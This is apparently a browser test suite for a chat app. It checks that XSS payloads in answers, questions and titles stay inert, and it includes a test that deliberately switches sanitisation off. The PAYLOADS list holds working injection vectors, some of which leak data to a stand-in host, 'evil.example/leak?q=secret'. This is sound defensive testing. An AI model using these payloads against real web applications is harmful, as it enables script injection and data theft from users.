"""A sample of S15: what a model, a person or a title says is shown and never carried out, wherever it
appears.

Places: an answer on a page, an answer while it streams, a question, a title in bar, list and palette.
Does not cover: office previews, file names: there are none yet; diagrams in depth (test_reading). The whole
of S15 is a proof of its own.
"""

import os

import pytest
from playwright.sync_api import expect

from tests.live import listen, running_web
from tests.prompts.chats import make_conversation, say

EVIL = "https://evil.example/leak"
PAYLOADS = [
    "<script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    f"<img src={EVIL}?q=secret>",
    f"![chart]({EVIL}.png)",
    f"![chart][1]\n\n[1]: {EVIL}.png",
    "[click](javascript:window.__x=1)",
    "[click](java\tscript:window.__x=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTE8L3NjcmlwdD4=)",
    "<javascript:window.__x=1>",
    "<svg onload=window.__x=1>",
    "<svg><script>window.__x=1</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__x=1>",
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<style>@import '{EVIL}';body{{background:url({EVIL})}}</style>",
    f"<link rel=stylesheet href={EVIL}><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><button autofocus onfocus=window.__x=1>Send</button></form>",
    "<details open ontoggle=window.__x=1>",
    "<video><source onerror=window.__x=1></video><audio src=x onerror=window.__x=1>",
    "<div hx-get=/c/ hx-trigger=load hx-on:htmx:load=window.__x=1>htmx</div>",
    "<div data-stop data-copy='#x' data-events-url=/m/x/events/ class='message'>",
    "<template shadowrootmode=open><script>window.__x=1</script></template>",
    '```"><img src=x onerror=window.__x=1>\ncode\n```',
    "```html onload=window.__x=1\n<script>window.__x=1</script>\n```",
    "| a |\n|:-|\n| <img src=x onerror=window.__x=1> |",
    f'[x]({EVIL} "\\" onmouseover=window.__x=1 \\"")',
    "<a href=x id=announcer name=body><a id=body name=dataset>clobber</a>",
    (
        "&lt;script&gt;window.__x=1&lt;/script&gt;<noscript><p title='</noscript><img src=x "
        "onerror=window.__x=1>'>"
    ),
    r"$\href{javascript:window.__x=1}{click}$ and $$\text{<img src=x onerror=window.__x=1>}$$",
    r"\[\text{</mtext></math><script>window.__x=1</script>}\style{background:url(//evil.example)}{x}\]",
    "javascript://x/%0awindow.__x=1 and data://text/html,<script>window.__x=1</script>",
    f'```mermaid\ngraph LR\nA["<script>parent.__x=1</script>"]-->B\nclick A "{EVIL}"\n```',
]
FORBIDDEN = (
    "script, iframe:not(.diagram[sandbox=allow-scripts]), math [href], math [style], annotation-xml, "
    "object, embed, form:not([action^='/']), img, svg[onload], [onerror], [onload], "
    "[onclick], [onfocus], [ontoggle], style, base, video"
)


def is_harmless(chat) -> None:
    """No live piece of a payload in the page; the watch listens for the rest."""
    for part in (".prose", ".bubble", "h1", "#conversation-list", "#palette-options"):
        for element in chat.page.locator(part).all():
            assert element.locator(FORBIDDEN).count() == 0, element.inner_html()
    for address in chat.page.locator(".prose a").evaluate_all(
        "(links) => links.map((link) => link.protocol)"
    ):
        assert address in ("http:", "https:", "mailto:")
    assert chat.page.evaluate("window.__x") is None


def write_down(person, payloads: list[str]) -> str:
    """A conversation in which both sides say all payloads, and one conversation titled with each."""
    conversation = make_conversation(person, payloads[0], turns=len(payloads))
    messages = list(conversation.messages.order_by("position"))
    for number, message in enumerate(messages):
        say(message, payloads[number // 2])
    for payload in payloads:
        make_conversation(person, payload[:200], turns=0)
    return f"/c/{conversation.pk}/"


def test_a_page_of_payloads_does_nothing(arrive):
    chat = arrive(path=None)
    chat.go(write_down(chat.person, PAYLOADS))
    chat.page.locator(".earlier").scroll_into_view_if_needed()  # the first ones come as a fragment
    expect(chat.page.locator(".message")).to_have_count(2 * len(PAYLOADS))
    expect(chat.rows).to_have_count(len(PAYLOADS) + 1)
    chat.page.keyboard.press("Control+k")
    chat.page.keyboard.type("x=1")
    expect(chat.page.locator("#palette-conversations a").first).to_be_visible()
    chat.page.wait_for_load_state("networkidle")  # the last letter's search may still be under way
    is_harmless(chat)


def test_payloads_that_stream_in_do_nothing(arrive):
    """The question is shown as text, the echo is rendered while it grows,
    the title goes into bar and list.
    """
    chat = arrive(model="mock-echo")
    for part in range(0, len(PAYLOADS), 12):
        for payload in (PAYLOADS[part // 12], " ".join(PAYLOADS[part : part + 12])):
            chat.ask(payload)
            chat.wait_for()
        is_harmless(chat)
        chat.go("/")


PLANTED = """
from markdown_it import MarkdownIt
from prompts import rendering
rendering._parser = lambda: MarkdownIt("commonmark", {"html": True})
rendering._clean = rendering.SafeString
"""


def test_planted_bug_without_the_cleaning_the_watch_complains(arrive, house):
    """Even then nothing is executed, thanks to the page's policy; but the watch hears of the tries."""
    with listen() as listener, running_web(listener, {**os.environ}, PLANTED):
        chat = arrive(path=None, port=listener.getsockname()[1])
        # that one would lead away
        chat.go(write_down(chat.person, [payload for payload in PAYLOADS if "refresh" not in payload]))
        with pytest.raises(AssertionError):
            is_harmless(chat)
        chat.watch.look_into(chat.context)
        complaints, chat.watch.complaints, chat.watch.expected = "\n".join(chat.watch.complaints), [], [""]
    for sign in (
        "policy violated: script-src-elem",
        "policy violated: script-src-attr",
        "policy violated: base-uri",
        "evil.example",
    ):
        assert sign in complaints
    assert "executed" not in complaints
